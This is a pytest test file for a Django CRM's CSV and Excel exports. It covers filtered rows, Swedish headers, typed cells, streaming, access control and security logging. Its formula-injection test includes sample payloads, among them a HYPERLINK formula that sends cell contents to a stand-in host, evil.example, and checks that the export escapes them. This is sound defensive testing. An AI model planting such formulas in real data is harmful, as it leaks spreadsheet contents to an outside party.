"""Exports of every list to CSV and Excel: exactly the filtered rows of every page, Swedish
headers, typed cells, formula injection made harmless, streamed, and the same few queries for
5 rows as for 50.

Generated from each record type's declaration in tests/record_types.py: rows that the filter
and search select, rows that one or the other leaves out, and the headers the user sees.
"""

import codecs
import csv
import datetime
import io
import logging
import re
from decimal import Decimal
from urllib.parse import parse_qs, urlencode

import openpyxl
import pytest
from django.conf import settings
from django.http import FileResponse, StreamingHttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import capfirst
from django_tables2.columns import DateColumn, DateTimeColumn

from contacts.tests.factories import ContactFactory
from contracts.models import Contract
from contracts.tests.factories import ContractFactory
from core.exports import cell_getter, export_response, safe_cell
from core.tests.factories import UserFactory
from deals.tests.factories import DealFactory
from members.models import Member
from members.tests.factories import CountyFactory, MemberFactory

from .html import page, table_rows, text
from .record_types import CONTACTS, EVERY_PAGE, MEMBERS, RECORD_TYPES

pytestmark = pytest.mark.django_db

PAGE_SIZE = 50
BEYOND_PAGE_ONE = PAGE_SIZE + 5


# --- Reading a download as the user's spreadsheet would -----------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built in memory
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(codecs.BOM_UTF8)  # or Excel shows "SÃ¶derby"
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_sheet(response):
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(response) -> list[list]:
    return [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]


def table_headers(response) -> list[str]:
    """The column headers of the page's list table, as the user reads them."""
    thead = re.search(r"<thead[^>]*>(.*?)</thead>", page(response), re.S).group(1)
    return [text(cell) for cell in re.findall(r"<th[^>]*>(.*?)</th>", thead, re.S)]


def swedish(label) -> str:
    with translation.override("sv"):
        return str(label)


def export(client, app, export_format, **query):
    return client.get(f"{reverse(f'{app}:list')}?{urlencode({**query, '_export': export_format})}")


# --- Every list, as tests/record_types.py declares it --------------------------------------------
# ``rows(n)`` adds n rows that ``export_query`` selects and returns their values in column
# ``export_key``; ``decoys()`` adds rows the filter or the search leaves out and returns theirs.
# Headers are checked against the page's own table headers, not spelled out here: the
# translation of a column name may change, the rule that the export has the page's may not.


# --- Content ------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", RECORD_TYPES, ids=str)
def test_export_holds_exactly_the_filtered_rows_of_every_page(reader_client, case):
    expected = case.rows(BEYOND_PAGE_ONE)
    left_out = case.decoys()
    # The page itself shows the first 50: the export must not stop there.
    page_response = reader_client.get(reverse(f"{case.app}:list"), case.export_query)
    assert len(table_rows(page_response)) == 50
    headers = table_headers(page_response)

    rows = csv_rows(export(reader_client, case.app, "csv", **case.export_query))
    sheet = xlsx_rows(export(reader_client, case.app, "xlsx", **case.export_query))

    # The list's own column headers, as the page shows them (in Swedish).
    assert rows[0] == sheet[0] == [capfirst(header) for header in headers]
    column = case.export_key
    assert sorted(row[column] for row in rows[1:]) == sorted(expected)
    assert sorted(row[column] for row in sheet[1:]) == sorted(expected)
    assert not set(left_out) & {row[column] for row in rows[1:] + sheet[1:]}


@pytest.mark.parametrize("case", RECORD_TYPES, ids=str)
def test_export_values_are_what_the_table_itself_exports(reader_client, case):
    """The export reads most columns without django-tables2's per-cell machinery (its
    signature inspection is most of the time of a large export); the values must be the same,
    except that dates and times keep their type where django-tables2 writes ISO text, and an
    empty date is an empty cell where django-tables2 writes the "—" shown on the page."""
    case.rows(3)
    case.decoys()  # with empty cells: no county, no owner, no value…
    table = reader_client.get(reverse(f"{case.app}:list")).context["table"]

    for row in table.paginated_rows:
        for column in table.columns.itervisible():
            value = cell_getter(table, column, table.data.model)(row.record)
            if isinstance(value, datetime.datetime):
                value = value.isoformat(sep=" ")
            elif isinstance(value, datetime.date):
                value = value.isoformat()
            elif value is None and isinstance(column.column, DateColumn | DateTimeColumn):
                value = column.default
            assert value == row.get_cell_value(column.name), column.name


def test_export_follows_the_sort_of_the_list(reader_client):
    for name, population in [("Anby", 300), ("Bnby", 100), ("Cnby", 200)]:
        MemberFactory(municipality=True, name=name, population=population)

    rows = csv_rows(export(reader_client, "members", "csv", sort="-population"))
    sheet = xlsx_rows(export(reader_client, "members", "xlsx", sort="-population"))

    assert [row[0] for row in rows[1:]] == ["Anby", "Cnby", "Bnby"]
    assert [row[0] for row in sheet[1:]] == ["Anby", "Cnby", "Bnby"]


def test_cells_are_typed_in_excel_and_swedish_in_csv(reader_client):
    """Numbers are numbers (a population can be summed), dates are dates, choices are their
    Swedish labels and related records their names."""
    member = MemberFactory(
        municipality=True,
        name="Kiruna",
        population=22_513,
        member_since=datetime.date(2019, 3, 1),
        county=CountyFactory(code="25", name="Norrbottens län"),
        responsible=UserFactory(username="anna", first_name="Anna", last_name="Berg"),
    )
    contract = ContractFactory(
        title="EGIL-avtal",
        value=Decimal("1234.50"),
        start_date=datetime.date(2025, 1, 1),
        end_date=datetime.date(2099, 12, 31),
    )
    municipality, not_member, active = (
        swedish(Member.OrgType.KOMMUN.label),
        swedish(Member.Status.NOT_MEMBER.label),
        swedish(Contract.Status.ACTIVE.label),
    )
    deal = DealFactory(title="Kiruna e-tjänster", value=Decimal("99000"))
    local_updated = timezone.localtime(deal.updated_at).replace(tzinfo=None)

    members_xlsx = xlsx_rows(export(reader_client, "members", "xlsx", q="kiruna"))
    members_csv = csv_rows(export(reader_client, "members", "csv", q="kiruna"))
    contract_xlsx = xlsx_rows(export(reader_client, "contracts", "xlsx", q="egil"))[1]
    contract_csv = csv_rows(export(reader_client, "contracts", "csv", q="egil"))[1]
    deal_xlsx = xlsx_rows(export(reader_client, "deals", "xlsx", q="kiruna"))[1]
    deal_csv = csv_rows(export(reader_client, "deals", "csv", q="kiruna"))[1]

    assert members_xlsx[1] == [
        "Kiruna",
        municipality,
        not_member,
        member.kommunkod,
        "Norrbottens län",
        22_513,
        datetime.datetime(2019, 3, 1),
        None,
        "Anna Berg",
    ]
    assert members_csv[1] == [
        "Kiruna", municipality, not_member, member.kommunkod, "Norrbottens län", "22513",
        "2019-03-01", "", "Anna Berg",
    ]  # fmt: skip
    assert contract_xlsx == [
        contract.number,
        "EGIL-avtal",
        contract.service.name,
        active,
        datetime.datetime(2025, 1, 1),
        datetime.datetime(2099, 12, 31),
        1234.5,
        1,
        None,
    ]
    assert contract_csv[3:] == [active, "2025-01-01", "2099-12-31", "1234,50", "1", ""]
    assert deal_xlsx[5] == 99000
    assert abs(deal_xlsx[8] - local_updated) < datetime.timedelta(seconds=1)
    assert deal_csv[5] == "99000,00"
    assert deal_csv[8] == f"{local_updated:%Y-%m-%d %H:%M}"


def test_download_names_and_sheet_are_swedish_and_dated(reader_client):
    today = timezone.localdate().isoformat()

    csv_response = export(reader_client, "members", "csv")
    xlsx_response = export(reader_client, "members", "xlsx")

    assert csv_response["Content-Disposition"] == f'attachment; filename="medlemmar-{today}.csv"'
    assert xlsx_response["Content-Disposition"] == (
        f'attachment; filename="medlemmar-{today}.xlsx"'
    )
    assert xlsx_sheet(xlsx_response).title == "Medlemmar"
    assert csv_response["Cache-Control"] == "no-store"  # personal data stays out of caches


def test_export_is_in_the_language_the_user_chose(reader_client):
    """The rows are written after the view returns; they keep the request's language."""
    MemberFactory(name="Kiruna", status=Member.Status.MEMBER)
    swedish_rows = csv_rows(export(reader_client, "members", "csv"))
    reader_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    rows = csv_rows(export(reader_client, "members", "csv"))

    assert swedish_rows[0][0] == "Namn"
    assert rows[0][:3] == ["Name", "Organisation type", "Membership status"]
    assert rows[1][:3] == ["Kiruna", "Company", "Member"]


# --- Formula injection --------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1", "-2", "@SUM(A1:A9)"]


def test_formulas_in_text_come_out_as_harmless_text(reader_client):
    # Emails of their own, in the order of the names (the factory's sequence would sort
    # "kontakt10" before "kontakt9", depending on the tests run before).
    for i, name in enumerate(DANGEROUS):
        ContactFactory(
            first_name=name, last_name="", phone="+46 8 123 45 67", email=f"k{i}@example.se"
        )
    ContactFactory(first_name="Anna", last_name="Svensson", phone="", email="k9@example.se")

    rows = csv_rows(export(reader_client, "contacts", "csv", sort="email"))
    sheet = xlsx_sheet(export(reader_client, "contacts", "xlsx", sort="email"))

    # CSV has no types: a leading apostrophe makes the spreadsheet show the text as it is.
    assert [row[0] for row in rows[1:]] == [f"'{name}" for name in DANGEROUS] + ["Anna Svensson"]
    assert {row[5] for row in rows[1:5]} == {"'+46 8 123 45 67"}
    # XLSX has: the cell is text holding exactly the name, marked as typed with an apostrophe
    # so that editing it keeps it text.
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names] == [*DANGEROUS, "Anna Svensson"]
    assert all(cell.data_type == "s" for cell in names)
    assert [cell.quotePrefix for cell in names] == [True] * 4 + [False]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna-Karin", "Anna-Karin"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_does_not(reader):
    """What a report hands the writer: a number stored as a number is no formula."""
    request = RequestFactory().get("/reports/x/")
    request.user = reader
    rows = [["-2", -2, Decimal("-1234.50"), -0.5, datetime.date(2026, 1, 31), True]]
    headers = ["text", "int", "decimal", "float", "date", "bool"]

    def download(export_format):
        return export_response(
            request, export_format, name="befolkningsförändring", headers=headers, rows=rows
        )

    assert csv_rows(download("csv"))[1] == ["'-2", "-2", "-1234,50", "-0,5", "2026-01-31", "Ja"]
    cells = next(xlsx_sheet(download("xlsx")).iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [
        "-2",
        -2,
        -1234.5,
        -0.5,
        datetime.datetime(2026, 1, 31),
        True,
    ]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "n", "d", "b"]


# --- Queries, streaming, access and the security log --------------------------------------------


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("case", RECORD_TYPES, ids=str)
def test_export_queries_do_not_grow_with_the_rows(
    reader_client, django_assert_num_queries, case, export_format
):
    # the rows with everything their columns show, in one query read in chunks; the
    # security event recording the export
    expected = EVERY_PAGE + 2

    case.rows(5)
    with django_assert_num_queries(expected):
        small = body(export(reader_client, case.app, export_format, **case.export_query))
    case.rows(45)
    with django_assert_num_queries(expected):
        large = body(export(reader_client, case.app, export_format, **case.export_query))

    assert len(large) > len(small)


def test_export_buttons_carry_the_filters_search_and_sort_but_not_the_page(reader_client):
    MEMBERS.rows(BEYOND_PAGE_ONE)
    query = {"status": "member", "q": "söderby", "sort": "-name", "page": "2"}

    response = reader_client.get(reverse("members:list"), query)

    links = re.findall(r'href="\?([^"]*_export=[^"]*)"', page(response))
    assert len(links) == 2
    for link, export_format in zip(links, ["csv", "xlsx"], strict=True):
        params = parse_qs(link.replace("&amp;", "&"))
        assert params == {
            "status": ["member"],
            "q": ["söderby"],
            "sort": ["-name"],
            "_export": [export_format],
        }


def test_anonymous_is_sent_to_login(client):
    response = export(client, "contacts", "csv")

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_user_without_a_role_may_not_export(login):
    response = export(login(UserFactory()), "contacts", "csv")

    assert response.status_code == 403


def test_an_unknown_format_is_refused(reader_client):
    assert export(reader_client, "contacts", "pdf").status_code == 400


def test_export_is_recorded_in_the_security_log(reader_client, caplog):
    CONTACTS.rows(3)

    with caplog.at_level(logging.INFO, logger="crm.security"):
        body(export(reader_client, "contacts", "csv", q="söderby"))

    (record,) = [r for r in caplog.records if r.name == "crm.security"]
    message = record.getMessage()
    assert "user=lasare" in message
    assert "what=contacts.Contact" in message
    assert "format=csv" in message
    assert "rows=3" in message
    assert "q=s%C3%B6derby" in message
